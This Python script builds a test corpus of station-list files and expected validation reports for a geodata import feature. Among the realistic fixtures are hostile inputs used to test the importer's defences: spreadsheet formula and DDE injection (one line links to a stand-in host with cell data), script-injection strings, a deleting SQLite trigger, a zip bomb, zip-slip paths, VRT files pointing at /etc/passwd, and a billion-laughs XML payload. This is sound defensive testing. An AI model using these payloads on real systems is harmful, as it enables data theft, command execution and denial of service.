"""Write the import test corpus: real-world-shaped station files and their expected reports.

    .venv/bin/python tests/corpus/make_corpus.py      # rewrites tests/corpus/files/ and expected/

Each entry of :data:`CORPUS` is a file under ``files/`` and, under ``expected/``, the report
it must yield against the bundled demo data (5,790 + 200 synthetic sites): ``ok``, the
counts and every problem as ``[row, column, code]``. The expectations are written by hand
here (they are the specification), not computed by the code under test. The output is
deterministic except for timestamps inside the XLSX, GeoPackage and Shapefile files.
"""

from __future__ import annotations

import io
import json
import sqlite3
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
FILES = HERE / "files"
EXPECTED = HERE / "expected"

# WGS-84 points in Hebei, away from the demo sites (checked by the tests: clean files pass).
P = {
    "sjz": (114.5012, 38.0188),   # 石家庄 长安区/桥西区 area
    "bd": (115.4812, 38.8652),    # 保定
    "ts": (118.1687, 39.6452),    # 唐山
    "hd": (114.4963, 36.6103),    # 邯郸
    "zjk": (114.8952, 40.8014),   # 张家口
    "lf": (116.7201, 39.5234),    # 廊坊
    "cz": (116.8721, 38.2899),    # 沧州
}
# A site of the demo data (id, name, lon, lat, phone), for updates and duplicates.
DEMO_ID, DEMO_NAME, DEMO_LON, DEMO_LAT = (
    "HB130102-0001", "东环路环卫工人爱心驿站", 114.653185, 38.087038)
DEMO2_ID, DEMO2_NAME, DEMO2_LON, DEMO2_LAT = (
    "HB130102-0002", "前进街环卫工人爱心驿站", 114.548946, 38.035861)

CORPUS: dict[str, dict] = {}


def entry(name: str, *, ok: bool, rows: int, new: int = 0, changed: int = 0,
          unchanged: int = 0, problems=(), datum: str = "wgs84", max_rows: int | None = None,
          note: str = ""):
    """Register the expected report of ``files/<name>``."""
    CORPUS[name] = {
        "datum": datum, "max_rows": max_rows, "note": note,
        "report": {"ok": ok, "rows": rows, "new": new, "changed": changed,
                   "unchanged": unchanged, "problems": [list(p) for p in problems]},
    }


def csv_text(rows: list[list[object]]) -> str:
    import csv

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def fmt(x: float) -> str:
    return f"{x:.6f}"


# ------------------------------------------------------------------ the files

def gbk_excel_csv() -> bytes:
    """What Excel in China saves as "CSV (逗号分隔)": GBK, CRLF, a title row, no BOM."""
    rows = [
        ["石家庄市总工会 户外劳动者服务站点名单（2026年11月）"],
        ["名称", "类型", "地址", "经度", "纬度", "服务", "开放时间", "主办单位", "电话",
         "所属地区", "区县"],
        ["裕华路环卫工人爱心驿站", "驿站", "石家庄市长安区裕华东路12号", fmt(P["sjz"][0]),
         fmt(P["sjz"][1]), "饮水、热水、卫生间、手机充电", "全天", "长安区总工会",
         "0311-86012345", "石家庄市", ""],
        ["NA", "驿站", "保定市竞秀区", fmt(P["bd"][0]), fmt(P["bd"][1]), "饮水，热水", "8:00-20:00",
         "中国工商银行保定分行", "0312-5012345", "保定", ""],
        ["建设路爱心妈妈小屋", "爱心妈妈小屋", "唐山市路北区建设路", fmt(P["ts"][0]),
         fmt(P["ts"][1]), "哺乳间、冰箱、尿布台、可锁门", "周一至周五 08:30-17:30", "唐山市妇联",
         "", "唐山市", ""],
    ]
    return csv_text(rows).encode("gbk")


entry("gbk_excel.csv", ok=True, rows=3, new=3,
      note="GBK + CRLF + a title row; a station literally named NA stays 'NA' (F12)")


def utf8_bom_csv() -> bytes:
    """Excel's "CSV UTF-8": a BOM; English aliases in another order; | and ; separators."""
    rows = [
        ["lat", "lon", "name", "kind", "services", "opening_hours", "phone"],
        [fmt(P["hd"][1]), fmt(P["hd"][0]), "丛台路快递小哥驿站", "station", "drinking_water|toilet",
         "Mo-Fr 08:00-18:00; PH off", "13912345678"],
        [fmt(P["zjk"][1]), fmt(P["zjk"][0]), "张家口桥东区外卖骑手驿站", "驿站", "热水;AED",
         "24小时", ""],
    ]
    return b"\xef\xbb\xbf" + csv_text(rows).encode("utf-8")


entry("utf8_bom.csv", ok=True, rows=2, new=2)


def _xlsx(rows_by_sheet: dict[str, list[list[object]]], *, text_cells: bool = True) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in rows_by_sheet.items():
        ws = wb.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = ws.cell(r, c, value)
                if text_cells and isinstance(value, str):
                    cell.data_type = "s"  # text, even when it starts with "="
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def title_row_xlsx() -> bytes:
    """An XLSX with a merged-looking title row and an empty row above the header; numbers
    typed as numbers (coordinates, a phone); a wrong 所属地区 on spreadsheet row 6."""
    return _xlsx({"Sheet1": [
        ["2026年河北省工会驿站名单（第一批）"],
        [],
        ["序号", "名称", "经度", "纬度", "所属地区", "区县", "电话", "服务"],
        [1, "廊坊市广阳区环卫驿站", P["lf"][0], P["lf"][1], "廊坊市", "广阳区", 3162345678,
         "饮水"],
        [2, "沧州运河区外卖驿站", P["cz"][0], P["cz"][1], "沧州", None, None, "热水、休息"],
        [3, "邯郸丛台区快递驿站", P["hd"][0] + 0.01, P["hd"][1], "邢台市", None, None, "饮水"],
    ]})


entry("title_row.xlsx", ok=False, rows=3, new=2,
      problems=[(6, "所属地区", "district_mismatch")],
      note="header on row 3 below a title row and an empty row; rows counted as Excel shows")


def dms_csv() -> bytes:
    rows = [
        ["名称", "经度", "纬度"],
        ["度分秒驿站一", "114°30'54\"E", "38°2'34.1\"N"],
        ["度分秒驿站二", "东经115度28分52秒", "北纬38度51分55秒"],
        ["度分秒驿站三", "118°10′07″", "39°38′43″"],
        ["全角数字驿站", "１１４．５３１２", "３８．０１０２"],
        ["分满六十驿站", "114°60'00\"E", "38°01'00\"N"],
        ["NaN驿站", "nan", "38.01"],
        ["无穷驿站", "114.5", "-inf"],
        ["科学计数驿站", "1.145e2", "38.02"],
    ]
    return csv_text(rows).encode("utf-8")


entry("dms.csv", ok=False, rows=8, new=4,
      problems=[(6, "经度", "bad_coordinate"), (7, "经度", "bad_coordinate"),
                (8, "纬度", "bad_coordinate"), (9, "经度", "bad_coordinate")],
      note="DMS in three styles and full-width digits pass; 60', nan, -inf, 1e2 are refused")


def swapped_csv() -> bytes:
    rows = [
        ["名称", "纬度", "经度"],  # the columns themselves in an unusual order: fine
        ["列序不同驿站", fmt(P["sjz"][1] + 0.01), fmt(P["sjz"][0])],
        ["填反驿站一", fmt(P["bd"][0]), fmt(P["bd"][1])],
        ["填反驿站二", "115°28'E", "38°51'N"],
    ]
    return csv_text(rows).encode("utf-8")


entry("swapped.csv", ok=False, rows=3, new=1,
      problems=[(3, "经度/纬度", "swapped_lat_lon"), (4, "经度/纬度", "swapped_lat_lon")])


def _converted(datum: str) -> bytes:
    sys.path.insert(0, str(ROOT))
    from locator.geo.datum import from_wgs84

    rows = [["名称", "经度", "纬度"]]
    for key in ("sjz", "ts", "zjk"):
        lon, lat = from_wgs84(*P[key], datum)
        rows.append([f"{datum.upper()} 坐标驿站 {key}", f"{lon:.7f}", f"{lat:.7f}"])
    return csv_text(rows).encode("utf-8")


entry("gcj02.csv", ok=True, rows=3, new=3, datum="gcj02",
      note="Amap/Tencent coordinates of known points; stored WGS-84 within 1 m of them")
entry("bd09.csv", ok=True, rows=3, new=3, datum="bd09",
      note="Baidu coordinates of known points; stored WGS-84 within 1 m of them")


def duplicates_csv() -> bytes:
    lon, lat = P["ts"]
    rows = [
        ["名称", "类型", "经度", "纬度"],
        ["新华道驿站", "驿站", fmt(lon), fmt(lat)],
        ["新华道 驿站", "驿站", fmt(lon + 0.0003), fmt(lat)],          # same name key, ~26 m
        ["别名驿站", "驿站", fmt(lon), fmt(lat + 0.00005)],            # 5.6 m from row 2
        ["新华道驿站", "爱心妈妈小屋", fmt(lon), fmt(lat)],  # other kind: not a duplicate
        ["远处同名", "驿站", fmt(lon + 0.01), fmt(lat)],
        ["东环路环卫工人爱心驿站", "驿站", fmt(DEMO_LON + 0.0002), fmt(DEMO_LAT)],  # demo, ~17 m
    ]
    return csv_text(rows).encode("utf-8")


entry("duplicates.csv", ok=False, rows=6, new=3,
      problems=[(3, "名称", "duplicate_in_file"), (4, "名称", "duplicate_in_file"),
                (7, "名称", "duplicate_existing")],
      note=f"rule: same kind within 10 m, or same name key within 100 m; demo site {DEMO_ID}")

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "${alert(1)}驿站",
    "@SUM(1+1)",
    "-2+3",
]


def payloads_csv() -> bytes:
    rows = [["名称", "经度", "纬度", "地址"]]
    keys = list(P)
    for i, name in enumerate(PAYLOADS):
        lon, lat = P[keys[i]]
        rows.append([name, fmt(lon + 0.02), fmt(lat - 0.02), "</script><script>alert(2)</script>"])
    return csv_text(rows).encode("utf-8")


entry("payloads.csv", ok=True, rows=len(PAYLOADS), new=len(PAYLOADS),
      note="formula and script text is stored as text; nothing is flagged for it")


def payloads_xlsx() -> bytes:
    keys = list(P)
    rows = [["名称", "经度", "纬度"]]
    for i, name in enumerate(PAYLOADS[:4]):
        lon, lat = P[keys[i]]
        rows.append([name, lon + 0.03, lat - 0.03])
    return _xlsx({"站点": rows})


entry("payloads.xlsx", ok=True, rows=4, new=4,
      note="the same payloads as text cells of an XLSX")


def bad_text_csv() -> bytes:
    rows = [
        ["名称", "经度", "纬度", "服务", "开放时间", "地址"],
        ["\u202egnp.exe驿站", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.02), "", "", ""],
        ["零宽\u200b驿站", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.03), "", "", ""],
        ["长" * 101, fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.04), "", "", ""],
        ["", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.05), "", "", ""],
        ["未知服务驿站", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.06), "饮水、按摩、足疗", "", ""],
        ["坏时间驿站", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.07), "", "早上到晚上", ""],
        ["北京驿站", "116.3975", "39.9087", "", "", ""],
        ["天津驿站", "117.2010", "39.0842", "", "", ""],
        ["换行\n名称驿站", fmt(P["sjz"][0]), fmt(P["sjz"][1] + 0.08), "", "", "地址\t有制表符"],
    ]
    return csv_text(rows).encode("utf-8")


entry("bad_text.csv", ok=False, rows=9, new=1,
      problems=[(2, "名称", "bad_text"), (3, "名称", "bad_text"), (4, "名称", "bad_text"),
                (5, "名称", "bad_text"), (6, "服务", "unknown_service"),
                (6, "服务", "unknown_service"), (7, "开放时间", "bad_opening_hours"),
                (8, "经度/纬度", "out_of_area"), (9, "经度/纬度", "out_of_area")],
      note="U+202E, zero-width, 101 characters, empty name; a line break inside a quoted "
           "cell is one spreadsheet row and becomes a space")


def bad_values_csv() -> bytes:
    rows = [
        ["名称", "类型", "状态", "经度", "纬度", "name"],
        ["类型不对驿站", "加油站", "", fmt(P["lf"][0] + 0.01), fmt(P["lf"][1]), ""],
        ["状态不对驿站", "驿站", "关门", fmt(P["lf"][0] + 0.02), fmt(P["lf"][1]), ""],
        ["暂停驿站", "妈妈小屋", "暂停", fmt(P["lf"][0] + 0.03), fmt(P["lf"][1]), ""],
    ]
    return csv_text(rows).encode("utf-8")


entry("bad_values.csv", ok=False, rows=3, new=1,
      problems=[(1, "name", "duplicate_column"), (2, "类型", "bad_value"),
                (3, "状态", "bad_value")],
      note="a second name column (English alias) and values outside the 类型/状态 lists")


def update_csv() -> bytes:
    rows = [
        ["编号", "名称", "经度", "纬度"],
        [DEMO_ID, DEMO_NAME, fmt(DEMO_LON), fmt(DEMO_LAT)],                 # unchanged
        [DEMO2_ID, DEMO2_NAME + "（新址）", fmt(DEMO2_LON + 0.001), fmt(DEMO2_LAT)],  # changed
        ["HB139999-0001", "不存在的编号", fmt(P["cz"][0]), fmt(P["cz"][1])],
        ["", "全新驿站", fmt(P["cz"][0] + 0.02), fmt(P["cz"][1])],
    ]
    return csv_text(rows).encode("utf-8")


entry("update.csv", ok=False, rows=4, new=1, changed=1, unchanged=1,
      problems=[(4, "编号", "unknown_id")])


def stations_geojson() -> bytes:
    features = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": list(P["lf"])},
         "properties": {"名称": "GeoJSON驿站一", "服务": ["饮水", "热水"], "开放时间": "全天"}},
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": list(P["cz"])},
         "properties": {"name": "GeoJSON驿站二", "kind": "mother_room"}},
        {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": [
            [[115.0, 38.0], [115.1, 38.0], [115.1, 38.1], [115.0, 38.0]]]},
         "properties": {"名称": "面状要素"}},
        {"type": "Feature", "geometry": None, "properties": {"名称": "无坐标"}},
    ]
    doc = {"type": "FeatureCollection", "features": features}
    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")


entry("stations.geojson", ok=False, rows=4, new=2,
      problems=[(3, "geometry", "bad_coordinate"), (4, "geometry", "bad_coordinate")],
      note="rows are the features' positions from 1")


def _gdal_write(path: Path, driver: str, layer_options=None, encoding=None):
    sys.path.insert(0, str(ROOT))
    import geopandas as gpd
    from shapely.geometry import Point

    import locator  # noqa: F401  (allowlists GDAL's drivers first)

    gdf = gpd.GeoDataFrame(
        {"名称": ["GPKG驿站一", "GPKG驿站二"], "服务": ["饮水、热水", "卫生间"]},
        geometry=[Point(*P["zjk"]), Point(P["zjk"][0] + 0.02, P["zjk"][1])], crs="EPSG:4326",
    )
    kwargs = {"encoding": encoding} if encoding else {}
    gdf.to_file(path, driver=driver, engine="pyogrio", layer_options=layer_options, **kwargs)


def good_gpkg(tmp: Path) -> bytes:
    path = tmp / "good.gpkg"
    _gdal_write(path, "GPKG")
    return path.read_bytes()


entry("good.gpkg", ok=True, rows=2, new=2)


def gpkg_with_trigger(tmp: Path) -> bytes:
    path = tmp / "trigger.gpkg"
    _gdal_write(path, "GPKG")
    conn = sqlite3.connect(path)
    table = conn.execute("SELECT table_name FROM gpkg_contents").fetchone()[0]
    conn.execute(f'CREATE TRIGGER evil AFTER INSERT ON "{table}" BEGIN '
                 f'DELETE FROM "{table}"; END')
    conn.execute(f'CREATE VIEW evil_view AS SELECT * FROM "{table}"')
    conn.commit()
    conn.close()
    return path.read_bytes()


entry("trigger_view.gpkg", ok=False, rows=0, problems=[(None, None, "unsupported_file")])


def plain_sqlite(tmp: Path) -> bytes:
    path = tmp / "plain.sqlite"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    return path.read_bytes()


entry("plain_sqlite.gpkg", ok=False, rows=0, problems=[(None, None, "unsupported_file")],
      note="an SQLite file that is not a GeoPackage (application_id)")


def gbk_shapefile_zip(tmp: Path) -> bytes:
    folder = tmp / "shp"
    folder.mkdir()
    _gdal_write(folder / "站点.shp", "ESRI Shapefile", encoding="GBK")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for part in sorted(folder.iterdir()):
            if part.suffix == ".cpg":
                continue  # as Chinese desktop GIS often ships it: GBK, no .cpg
            info = zipfile.ZipInfo(f"驿站/{part.name}", date_time=(2026, 11, 1, 0, 0, 0))
            zf.writestr(info, part.read_bytes(), zipfile.ZIP_DEFLATED)
    return out.getvalue()


entry("gbk_shapefile.zip", ok=True, rows=2, new=2,
      note="a zipped Shapefile with GBK attributes and no .cpg, in a folder, Chinese names")


def _zip(members: dict[str, bytes], *, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 11, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def zip_bomb() -> bytes:
    return _zip({"layer.shp": b"\x00\x00\x27\x0a" + b"\x00" * 96, "layer.shx": b"\x00" * 100,
                 "layer.dbf": b"\x00" * (10 * 1024 * 1024)})


entry("zip_bomb.zip", ok=False, rows=0, problems=[(None, None, "unsupported_file")],
      note="10 MiB of zeros packed ~1000:1")


def zip_slip() -> bytes:
    return _zip({"../../x.shp": b"\x00\x00\x27\x0a", "../../x.shx": b"", "../../x.dbf": b""})


entry("zip_slip.zip", ok=False, rows=0, problems=[(None, None, "unsupported_file")])


def zip_with_vrt() -> bytes:
    vrt = (b"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/etc/passwd"
           b"</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>")
    return _zip({"layer.shp": b"\x00\x00\x27\x0a", "layer.shx": b"", "layer.dbf": b"",
                 "layer.vrt": vrt})


entry("zip_with_vrt.zip", ok=False, rows=0, problems=[(None, None, "unsupported_file")])

SECRET_MARKER = "TOP-SECRET-LOCAL-FILE"


def vrt_geojson() -> bytes:
    """OGR VRT XML named .geojson, pointing at a local CSV (reliability.md F6). The tests
    write the secret file where this points and check it is never read."""
    return (
        b"<OGRVRTDataSource><OGRVRTLayer name='stations'>"
        b"<SrcDataSource>CSV:/tmp/locator-corpus-secret/secret.csv</SrcDataSource>"
        b"</OGRVRTLayer></OGRVRTDataSource>"
    )


entry("vrt_as.geojson", ok=False, rows=0, problems=[(None, None, "unsupported_file")])


def billion_laughs_xlsx() -> bytes:
    good = _xlsx({"Sheet1": [["名称", "经度", "纬度"], ["x", 114.5, 38.0]]})
    src = zipfile.ZipFile(io.BytesIO(good))
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                     for i in range(1, 10))
           + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
             "</sheetData></worksheet>")
    members = {}
    for info in src.infolist():
        data = src.read(info)
        if info.filename == "xl/worksheets/sheet1.xml":
            data = lol.encode()
        members[info.filename] = data
    return _zip(members)


entry("billion_laughs.xlsx", ok=False, rows=0, problems=[(None, None, "unreadable_file")])


def xlsx_named_csv() -> bytes:
    return _xlsx({"站点": [["名称", "经度", "纬度"], ["伪装成CSV的Excel驿站", *P["bd"]]]})


entry("xlsx_renamed.csv", ok=True, rows=1, new=1, note="the content decides: read as XLSX")

entry("empty.csv", ok=False, rows=0, problems=[(None, None, "unreadable_file")])
entry("header_only.csv", ok=False, rows=0, problems=[(1, None, "no_rows")])
entry("no_name_column.csv", ok=False, rows=1,
      problems=[(1, "名称", "missing_column"), (1, "纬度", "missing_column")])


def too_many_rows_csv() -> bytes:
    rows = [["名称", "经度", "纬度"]]
    rows += [[f"站{i}", fmt(P["sjz"][0] + i * 0.001), fmt(P["sjz"][1])] for i in range(30)]
    return csv_text(rows).encode("utf-8")


entry("too_many_rows.csv", ok=False, rows=0, max_rows=20,
      problems=[(None, None, "too_many_rows")], note="checked with IMPORT_MAX_ROWS=20")

entry("old_excel.xls", ok=False, rows=0, problems=[(None, None, "unsupported_file")])


def build(tmp: Path) -> dict[str, bytes]:
    return {
        "gbk_excel.csv": gbk_excel_csv(),
        "utf8_bom.csv": utf8_bom_csv(),
        "title_row.xlsx": title_row_xlsx(),
        "dms.csv": dms_csv(),
        "swapped.csv": swapped_csv(),
        "gcj02.csv": _converted("gcj02"),
        "bd09.csv": _converted("bd09"),
        "duplicates.csv": duplicates_csv(),
        "payloads.csv": payloads_csv(),
        "payloads.xlsx": payloads_xlsx(),
        "bad_text.csv": bad_text_csv(),
        "update.csv": update_csv(),
        "bad_values.csv": bad_values_csv(),
        "stations.geojson": stations_geojson(),
        "good.gpkg": good_gpkg(tmp),
        "trigger_view.gpkg": gpkg_with_trigger(tmp),
        "plain_sqlite.gpkg": plain_sqlite(tmp),
        "gbk_shapefile.zip": gbk_shapefile_zip(tmp),
        "zip_bomb.zip": zip_bomb(),
        "zip_slip.zip": zip_slip(),
        "zip_with_vrt.zip": zip_with_vrt(),
        "vrt_as.geojson": vrt_geojson(),
        "billion_laughs.xlsx": billion_laughs_xlsx(),
        "xlsx_renamed.csv": xlsx_named_csv(),
        "empty.csv": b"",
        "header_only.csv": "名称,经度,纬度\r\n".encode(),
        "no_name_column.csv": "站名,经度,lat_x\r\nA,114.5,38\r\n".encode(),
        "too_many_rows.csv": too_many_rows_csv(),
        "old_excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    }


def main() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        files = build(Path(tmp))
    assert set(files) == set(CORPUS), set(files) ^ set(CORPUS)
    FILES.mkdir(exist_ok=True)
    EXPECTED.mkdir(exist_ok=True)
    for name, data in files.items():
        (FILES / name).write_bytes(data)
        spec = CORPUS[name]
        (EXPECTED / f"{name}.json").write_text(
            json.dumps(spec, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    print(f"wrote {len(files)} files to {FILES}")


if __name__ == "__main__":
    main()
